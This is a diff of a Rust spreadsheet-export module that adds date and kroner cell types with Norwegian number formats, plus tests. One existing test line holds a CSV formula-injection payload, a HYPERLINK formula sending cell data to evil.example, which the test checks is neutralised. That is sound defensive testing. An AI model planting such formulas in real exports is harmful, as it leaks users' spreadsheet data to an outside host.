@@ -6,16 +6,37 @@ mod download;
 pub use download::attachment;
 
 use crate::error::AppError;
+use chrono::{Datelike, NaiveDate};
 use rust_xlsxwriter::{Format, Workbook};
 use samveis_domain::reporting::format_hundredths;
 
-/// A cell: numbers stay numbers so spreadsheets can sum them.
+/// A cell: numbers stay numbers so spreadsheets can sum them, dates stay dates so they sort.
 #[derive(Debug, Clone, PartialEq)]
 pub enum Cell {
     Text(String),
     Number(i64),
+    /// Hundredths: 150 is 1,5.
     Decimal(i64),
+    /// A date cell, shown 10.12.2021 (dd.mm.åååå).
+    Date(NaiveDate),
+    /// Whole kroner, shown with thousands separated: 1 447 130 kr.
+    Kroner(i64),
+    /// Kroner in hundredths (øre), shown with two decimals: 1 234,56 kr.
+    KronerHundredths(i64),
 }
+
+impl Cell {
+    /// An empty cell where there is no value.
+    pub fn or_empty<T>(value: Option<T>, cell: impl FnOnce(T) -> Cell) -> Cell {
+        value.map_or(Cell::Text(String::new()), cell)
+    }
+}
+
+/// Number formats as Excel stores them; the `,` is the thousands separator, which a spreadsheet
+/// set to Norwegian shows as a space («1 447 130 kr»), and `.` the decimal comma.
+pub const DATE_FORMAT: &str = "dd.mm.yyyy";
+pub const KRONER_FORMAT: &str = "#,##0 \"kr\"";
+pub const KRONER_HUNDREDTHS_FORMAT: &str = "#,##0.00 \"kr\"";
 
 pub struct Table {
     pub title: String,
@@ -26,8 +47,9 @@ pub struct Table {
 fn text(cell: &Cell) -> String {
     match cell {
         Cell::Text(t) => neutralised(t),
-        Cell::Number(n) => n.to_string(),
-        Cell::Decimal(n) => format_hundredths(*n).replace('−', "-"),
+        Cell::Number(n) | Cell::Kroner(n) => n.to_string(),
+        Cell::Decimal(n) | Cell::KronerHundredths(n) => format_hundredths(*n).replace('−', "-"),
+        Cell::Date(d) => d.format("%d.%m.%Y").to_string(),
     }
 }
 
@@ -52,6 +74,41 @@ pub fn to_csv(table: &Table) -> Result<Vec<u8>, AppError> {
     Ok(out)
 }
 
+fn write_cell(
+    sheet: &mut rust_xlsxwriter::Worksheet,
+    (r, c): (u32, u16),
+    cell: &Cell,
+) -> Result<(), rust_xlsxwriter::XlsxError> {
+    match cell {
+        Cell::Text(t) if t.is_empty() => {}
+        Cell::Text(t) => {
+            sheet.write_string(r, c, t)?;
+        }
+        Cell::Number(n) => {
+            sheet.write_number(r, c, *n as f64)?;
+        }
+        Cell::Decimal(n) => {
+            sheet.write_number(r, c, *n as f64 / 100.0)?;
+        }
+        Cell::Date(d) => {
+            // Excel has no dates before 1900: such a date is written as text.
+            let year = u16::try_from(d.year()).unwrap_or(0);
+            match rust_xlsxwriter::ExcelDateTime::from_ymd(year, d.month() as u8, d.day() as u8) {
+                Ok(date) => sheet.write_datetime_with_format(r, c, date, &Format::new().set_num_format(DATE_FORMAT))?,
+                Err(_) => sheet.write_string(r, c, d.format("%d.%m.%Y").to_string())?,
+            };
+        }
+        Cell::Kroner(n) => {
+            sheet.write_number_with_format(r, c, *n as f64, &Format::new().set_num_format(KRONER_FORMAT))?;
+        }
+        Cell::KronerHundredths(n) => {
+            let format = Format::new().set_num_format(KRONER_HUNDREDTHS_FORMAT);
+            sheet.write_number_with_format(r, c, *n as f64 / 100.0, &format)?;
+        }
+    }
+    Ok(())
+}
+
 pub fn to_xlsx(table: &Table) -> Result<Vec<u8>, AppError> {
     let err = |e: rust_xlsxwriter::XlsxError| AppError::Internal(e.to_string());
     let mut book = Workbook::new();
@@ -64,21 +121,8 @@ pub fn to_xlsx(table: &Table) -> Result<Vec<u8>, AppError> {
         sheet.write_string_with_format(0, c as u16, h, &bold).map_err(err)?;
     }
     for (r, row) in table.rows.iter().enumerate() {
-        let r = (r + 1) as u32;
         for (c, cell) in row.iter().enumerate() {
-            let c = c as u16;
-            match cell {
-                Cell::Text(t) if t.is_empty() => {}
-                Cell::Text(t) => {
-                    sheet.write_string(r, c, t).map_err(err)?;
-                }
-                Cell::Number(n) => {
-                    sheet.write_number(r, c, *n as f64).map_err(err)?;
-                }
-                Cell::Decimal(n) => {
-                    sheet.write_number(r, c, *n as f64 / 100.0).map_err(err)?;
-                }
-            }
+            write_cell(sheet, ((r + 1) as u32, c as u16), cell).map_err(err)?;
         }
     }
     sheet.set_freeze_panes(1, 2).map_err(err)?;
@@ -126,5 +170,54 @@ mod tests {
             lines[1],
             "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"x\"\")\";'+1+1;'@SUM(1+1);'-2+3;'\tx;Bodø;-1200;-1,5"
         );
+    }
+
+    fn typed_table() -> Table {
+        let date = NaiveDate::from_ymd_opt(2021, 12, 10).unwrap();
+        Table {
+            title: "Tilsagn".into(),
+            headers: ["Vedtaksdato", "Innvilget (kr)", "Verdi (kroner)", "Antall"].map(String::from).to_vec(),
+            rows: vec![vec![
+                Cell::Date(date),
+                Cell::Kroner(1_447_130),
+                Cell::KronerHundredths(123_456),
+                Cell::Number(12),
+            ]],
+        }
+    }
+
+    /// The number formats a workbook's styles hold, as Excel stores them.
+    fn number_formats(xlsx: &[u8]) -> Vec<String> {
+        use std::io::Read;
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
+        let mut styles = String::new();
+        zip.by_name("xl/styles.xml").unwrap().read_to_string(&mut styles).unwrap();
+        styles
+            .split("formatCode=\"")
+            .skip(1)
+            .filter_map(|rest| rest.split_once('"').map(|(code, _)| code.replace("&quot;", "\"")))
+            .collect()
+    }
+
+    #[test]
+    fn dates_are_date_cells_and_kroner_carry_a_kroner_format() {
+        use calamine::{Data, Reader};
+        let xlsx = to_xlsx(&typed_table()).unwrap();
+        let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.clone())).unwrap();
+        let sheet = book.worksheet_range_at(0).unwrap().unwrap();
+        match sheet.get_value((1, 0)) {
+            Some(Data::DateTime(d)) => {
+                assert_eq!(d.as_datetime().map(|t| t.date()), NaiveDate::from_ymd_opt(2021, 12, 10))
+            }
+            other => panic!("a date cell: {other:?}"),
+        }
+        assert_eq!(sheet.get_value((1, 1)), Some(&Data::Float(1_447_130.0)));
+        assert_eq!(sheet.get_value((1, 2)), Some(&Data::Float(1234.56)));
+        let formats = number_formats(&xlsx);
+        for format in [DATE_FORMAT, "#,##0 \"kr\"", "#,##0.00 \"kr\""] {
+            assert!(formats.iter().any(|f| f == format), "{format} in {formats:?}");
+        }
+        let csv = String::from_utf8(to_csv(&typed_table()).unwrap()).unwrap();
+        assert_eq!(csv.lines().nth(1), Some("10.12.2021;1447130;1234,56;12"), "CSV keeps plain numbers");
     }
 }
